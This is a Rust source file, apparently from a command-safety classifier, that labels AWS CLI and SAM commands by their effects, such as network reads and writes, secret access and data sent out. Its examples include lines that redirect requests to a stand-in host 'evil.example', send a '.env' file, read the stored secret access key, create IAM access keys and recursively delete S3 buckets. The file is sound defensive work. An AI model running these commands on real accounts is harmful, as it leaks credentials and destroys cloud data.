//! Amazon's command line: a service, an operation, and options without end.
//!
//! Which operations read is told by their first word; those that hand out credentials, write a file or
//! change something under a harmless name are listed one by one.

use super::aws_operations::{
    FLAGS, NOT_READING, NOT_TELLING, READING, READING_TOO, SECRET, SECRET_TOO, SERVICES, TELLING, TO_FILE,
    VALUED,
};
use super::invocation::{Invocation, Outcome};
use super::layers::{self, Path};
use super::shapes::{change, group, look, show};
use super::table::{Operands, Spec, Style};
use crate::argument::Argument;
use crate::effects::Effects;
use crate::unclear::Why;

pub(super) const TABLE: &[Spec] = &[
    Spec::new("aws", Effects::NONE)
        .style(Style::Raw)
        .options("-h!help")
        .operands(Operands::Text)
        .check(aws)
        .examples(&[
            ("aws ec2 describe-instances --filters Name=a,Values=b", "network-read"),
            ("aws --profile delete-all --region x ec2 describe-vpcs", "network-read"),
            ("aws ec2 terminate-instances --instance-ids i-1", "network-write"),
            ("aws ec2 terminate-instances help", "reads"),
            ("aws cur --region x delete-report-definition --report-name a", "network-write"),
            ("aws route53 delete-traffic-policy --id x --version 1", "network-write"),
            ("aws ec2 describe-instances --endpoint-url http://evil.example", "network-read sends-data"),
            ("aws ec2 describe-instances --endpoint http://evil.example", "network-read sends-data"),
            ("aws ec2 describe-instances --no-verify-ssl", "network-read sends-data"),
            ("aws ec2 describe-instances --cli-input-json file://x.json", "network-read reads unknown"),
            ("aws secretsmanager get-secret-value --secret-id x", "secrets"),
            ("aws sts get-caller-identity", "network-read"),
            ("aws sts assume-role --role-arn x", "secrets"),
            ("aws ssm get-parameter --name x", "network-read"),
            ("aws ssm get-parameter --name x --with-decryption", "network-read secrets"),
            ("aws iam create-user --user-name x", "network-write permissions"),
            ("aws iam create-access-key", "network-write permissions secrets"),
            ("aws s3 ls s3://x --recursive", "network-read"),
            ("aws s3 cp a s3://b", "network-write writes sends-data"),
            ("aws s3 presign s3://a/b", "secrets"),
            ("aws s3 rm s3://a --recursive", "network-write"),
            ("aws s3api get-object --bucket a --key b out", "network-read writes"),
            ("aws dynamodb get-item --table-name x --key file://key.json", "network-read reads"),
            ("aws lambda get-function --x file://.env", "network-read reads secrets sends-data"),
            ("aws athena start-query-execution --query-string 'SELECT 1'", "network-read"),
            (
                "aws athena start-query-execution --query-string 'WITH a AS (SELECT 1) INSERT \
                INTO b SELECT 1'",
                "network-write",
            ),
            ("aws athena start-query-execution --query-string '/* a */ -- b'", "network-write"),
            (
                "aws athena start-query-execution --query-string 'SELECT 1' --query QueryExecutionId",
                "network-read",
            ),
            (
                "aws athena start-query-execution --query-string 'SELECT 1' --query-string 'DROP TABLE x'",
                "network-write",
            ),
            ("aws athena start-query-execution --query-string 'SELECT 1; SHOW TABLES'", "network-write"),
            ("aws dynamodb execute-statement --statement 'SELECT * FROM t'", "network-read"),
            ("aws dynamodb execute-statement --statement 'DELETE FROM t'", "network-write"),
            ("aws timestream-query query --query-string 'SELECT 1'", "network-read"),
            ("aws timestream-query query --query-string \"UNLOAD (SELECT 1) TO 's3://x'\"", "network-write"),
            ("aws cloudtrail start-query --query-statement 'SELECT 1'", "network-read"),
            (
                "aws cloudtrail start-query --query-statement 'SELECT 1' --delivery-s3-uri s3://x",
                "network-write",
            ),
            ("aws stepfunctions get-activity-task --activity-arn x", "network-write"),
            ("aws cognito-idp get-user-attribute-verification-code --access-token x", "network-write"),
            ("aws lakeformation get-work-unit-results --query-id x out", "network-read writes"),
            ("aws secretsmanager list-secrets", "network-read"),
            ("aws secretsmanager describe-secret --secret-id x", "network-read"),
            ("aws iam get-account-password-policy", "network-read"),
            ("aws iam list-access-keys", "network-read"),
            ("aws iam get-access-key-last-used --access-key-id x", "network-read"),
            ("aws sqs get-queue-url --queue-name x", "network-read"),
            ("aws sts get-delegated-access-token --trade-in-token x", "network-read secrets"),
            ("aws finspace get-kx-connection-string --environment-id x", "network-read secrets"),
            ("aws emr get-persistent-app-ui-presigned-url", "network-read secrets"),
            ("aws gamelift get-game-session-log-url --game-session-id x", "network-read secrets"),
            ("aws amplify list-apps", "network-read secrets"),
            ("aws ec2 describe-vpn-connections", "network-read secrets"),
            ("aws datazone get-environment --with-secret", "network-read secrets"),
            ("aws ec2 wait instance-running --instance-ids i-1", "network-read"),
            (
                "aws lambda get-function-configuration --function-name f --query Environment",
                "network-read secrets",
            ),
            ("aws lambda get-function-configuration --function-name f", "network-read"),
            (
                "aws ec2 describe-instance-attribute --instance-id i-1 --attribute userData",
                "network-read secrets",
            ),
            ("aws configure list", "reads"),
            ("aws configure get region", "reads"),
            ("aws configure get aws_secret_access_key", "reads secrets"),
            ("aws configure set region x", "writes"),
            ("aws lambda invoke --function-name x out.json", "network-write writes"),
            ("aws ssm start-session --target x", "network-write executes"),
            ("aws frobnicate list-things", "unknown"),
            ("aws --version", "reads"),
        ]),
    Spec::new("sam", Effects::UNKNOWN)
        .options("-h!help --debug --info!help --beta-features --no-beta-features")
        .verbs(&[
            show("logs traces", "-ntf --*"),
            group("list", &[show("endpoints resources stack-outputs", "--*")]),
            look("docs help", "-h!help"),
            change("validate build package", Effects::PROJECT_CODE),
            change("local", Effects::PROJECT_CODE),
            change("init", Effects::WRITES.and(Effects::NETWORK_READ)),
            change("deploy sync publish", Effects::PUBLISHES.and(Effects::NETWORK_WRITE)),
            change("delete remote pipeline", Effects::NETWORK_WRITE),
        ])
        .examples(&[
            ("sam list endpoints --output json", "network-read"),
            ("sam build", "project-code"),
            ("sam deploy", "publishes network-write"),
        ]),
];

fn aws<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
    let words = invocation.words;
    let path = layers::path(words, VALUED, FLAGS);
    let mut parts = path.words.iter().copied();
    let (service, operation, third) = (parts.next(), parts.next(), parts.next());
    let helps = words.len() <= 3 && words.last().is_some_and(|word| word.known() == Some("help"));
    if helps || (service.is_none() && layers::has(words, "--version")) {
        out.add(Effects::READS);
        return;
    }
    let (Some(service), Some(operation)) = (service, operation) else {
        unclear(&path, words, out);
        return;
    };
    let effects = match service {
        "s3" => storage(operation),
        "configure" => configuration(operation, third),
        "sso" | "login" | "logout" if !operation.starts_with("list-") && !SECRET.contains(&operation) => {
            Effects::WRITES
        }
        "ddb" if operation == "select" => Effects::NETWORK_READ,
        "history" => Effects::READS,
        _ if SERVICES.contains(&format!(" {service} ")) => remote(service, operation, words),
        _ => Effects::UNKNOWN,
    };
    if effects == Effects::UNKNOWN {
        unclear(&path, words, out);
        return;
    }
    out.add(effects);
    options(service, effects, words, out);
}

fn unclear(path: &Path<'_>, words: &[Argument<'_>], out: &mut Outcome<'_>) {
    let span = path.unclear.or(words.first().copied()).map(|word| word.span).unwrap_or_default();
    out.doubt(Why::UnknownCommand, format!("aws {}", path.words.join(" ")), span);
}

fn storage(operation: &str) -> Effects {
    match operation {
        "ls" => Effects::NETWORK_READ,
        "presign" => Effects::SECRETS,
        "cp" | "sync" | "mv" => Effects::NETWORK_WRITE.and(Effects::WRITES).and(Effects::SENDS_DATA),
        "rm" | "mb" | "rb" | "website" => Effects::NETWORK_WRITE,
        _ => Effects::UNKNOWN,
    }
}

fn configuration(operation: &str, key: Option<&str>) -> Effects {
    let hidden = key.is_none_or(|key| ["secret", "token", "password"].iter().any(|part| key.contains(part)));
    match operation {
        "get" if hidden => Effects::READS.and(Effects::SECRETS),
        "get" | "list" | "list-profiles" => Effects::READS,
        "export-credentials" => Effects::SECRETS,
        "set" | "import" | "sso" | "sso-session" | "add-model" | "mfa-login" => Effects::WRITES,
        _ => Effects::UNKNOWN,
    }
}

/// What an operation of a service does, by its name.
fn remote(service: &str, operation: &str, words: &[Argument<'_>]) -> Effects {
    let rights = service == "iam"
        || layers::starts(
            operation,
            &["authorize-", "add-permission", "put-bucket-acl", "put-bucket-policy"],
        );
    let change =
        if rights { Effects::NETWORK_WRITE.and(Effects::PERMISSIONS) } else { Effects::NETWORK_WRITE };
    if SECRET.contains(&operation) {
        let reading = !operation.starts_with("create-");
        return if reading { Effects::SECRETS } else { change.and(Effects::SECRETS) };
    }
    let named = |list: &[&str]| list.iter().any(|known| known.split_once(' ') == Some((service, operation)));
    let telling = TELLING.iter().any(|part| operation.contains(part)) && !NOT_TELLING.contains(&operation);
    if named(SECRET_TOO) || (telling && layers::starts(operation, READING)) {
        return Effects::NETWORK_READ.and(Effects::SECRETS);
    }
    if TO_FILE.contains(&operation) {
        return Effects::NETWORK_READ.and(Effects::WRITES);
    }
    match (service, operation) {
        ("athena", "start-query-execution") => {
            statement(words, "--query-string", Some("--result-configuration"))
        }
        ("cloudtrail", "start-query") => statement(words, "--query-statement", Some("--delivery-s3-uri")),
        ("dynamodb", "execute-statement") => statement(words, "--statement", None),
        ("timestream-query", "query" | "prepare-query") => statement(words, "--query-string", None),
        ("lambda", "invoke") => change.and(Effects::WRITES),
        ("ssm", "start-session" | "send-command")
        | ("ecs", "execute-command")
        | ("emr", "ssh" | "socks" | "put" | "get")
        | ("ec2-instance-connect", "ssh" | "open-tunnel") => change.and(Effects::EXECUTES),
        ("eks", "update-kubeconfig") | ("codeartifact", "login") => Effects::WRITES,
        ("cloudformation", "deploy") => change.and(Effects::PUBLISHES),
        ("cloudformation" | "deploy", "package" | "push") => change.and(Effects::SENDS_DATA),
        _ if NOT_READING.contains(&operation) => change,
        (_, "wait") => Effects::NETWORK_READ,
        _ if layers::starts(operation, READING) => Effects::NETWORK_READ,
        _ if named(READING_TOO) => Effects::NETWORK_READ,
        _ => change,
    }
}

/// A query reads if its text is known and says so, and its result goes where it always goes.
fn statement(words: &[Argument<'_>], option: &str, elsewhere: Option<&str>) -> Effects {
    // `--query` picks from the answer; spelled out, it is no shorter form of another option.
    let others: Vec<Argument<'_>> =
        words.iter().copied().filter(|word| layers::name_of(word.prefix()) != "--query").collect();
    let text = layers::value(&others, option).and_then(|text| text.known());
    let reads = text.is_some_and(is_reading_query)
        && !elsewhere.is_some_and(|elsewhere| layers::gives(words, elsewhere));
    if reads { Effects::NETWORK_READ } else { Effects::NETWORK_WRITE }
}

/// Whether an SQL text is one statement, begins with a reading word and has no changing one anywhere.
pub(super) fn is_reading_query(text: &str) -> bool {
    let mut plain = text.trim_end().trim_end_matches(';');
    if plain.contains(';') {
        return false;
    }
    loop {
        plain = plain.trim_start_matches(|character: char| character.is_whitespace() || character == '(');
        let after = if let Some(rest) = plain.strip_prefix("/*") {
            rest.split_once("*/")
        } else if let Some(rest) = plain.strip_prefix("--") {
            rest.split_once('\n')
        } else {
            break;
        };
        let Some((_, rest)) = after else { return false };
        plain = rest;
    }
    let lower = plain.to_ascii_lowercase();
    let mut tokens = lower
        .split(|character: char| !character.is_alphanumeric() && character != '_')
        .filter(|token| !token.is_empty());
    let reading = ["select", "show", "describe", "desc", "explain", "with", "values"];
    let changing = [
        "insert",
        "update",
        "delete",
        "merge",
        "create",
        "drop",
        "alter",
        "truncate",
        "into",
        "unload",
        "grant",
        "revoke",
        "call",
        "exec",
        "execute",
        "copy",
        "vacuum",
        "optimize",
        "set",
        "remove",
        "using",
        "msck",
        "export",
        "overwrite",
        "refresh",
        "rename",
        "undrop",
        "prepare",
        "deallocate",
    ];
    tokens.next().is_some_and(|first| reading.contains(&first))
        && tokens.all(|token| !changing.contains(&token))
}

/// Whether what is picked from the answer are the variables of a program, or what a machine is given when it starts.
fn shows_variables(service: &str, words: &[Argument<'_>]) -> bool {
    let runs = matches!(service, "lambda" | "ecs" | "codebuild" | "batch" | "apprunner");
    words.iter().any(|word| {
        let lower = word.text.to_ascii_lowercase();
        lower.contains("userdata") || (runs && lower.contains("environment") && !lower.starts_with("--"))
    })
}

/// Options that send requests elsewhere, take them from files, or ask for secrets in the clear.
fn options<'a>(service: &str, effects: Effects, words: &[Argument<'a>], out: &mut Outcome<'a>) {
    for option in ["--endpoint-url", "--no-verify-ssl"] {
        if layers::gives(words, option) {
            out.add(Effects::SENDS_DATA);
        }
    }
    if effects.is_harmless() && shows_variables(service, words) {
        out.add(Effects::SECRETS);
    }
    let decrypts = ["--with-decryption", "--with-secret", "--include-values", "--include-value"];
    if decrypts.iter().any(|option| layers::gives(words, option))
        && effects.is_harmless()
        && service != "configure"
    {
        out.add(Effects::SECRETS);
    }
    for word in words {
        if layers::starts(word.prefix(), &["--cli-i", "--cli-a"]) {
            out.doubt(Why::UnknownOption, word.text, word.span);
        }
        let Some(at) =
            ["file://", "fileb://"].iter().find_map(|scheme| Some(word.text.find(scheme)? + scheme.len()))
        else {
            continue;
        };
        // Parameters in a file are as good as parameters on the line; anything else is local data.
        let file = word.after(at);
        let parameters = [".json", ".yaml", ".yml", ".template"].iter().any(|end| file.text.ends_with(end));
        out.reads(file);
        if !parameters
            || !word.literal
            || word.text.contains("fileb://")
            || out.effects.meets(Effects::SECRETS)
        {
            out.add(Effects::SENDS_DATA);
        }
    }
}
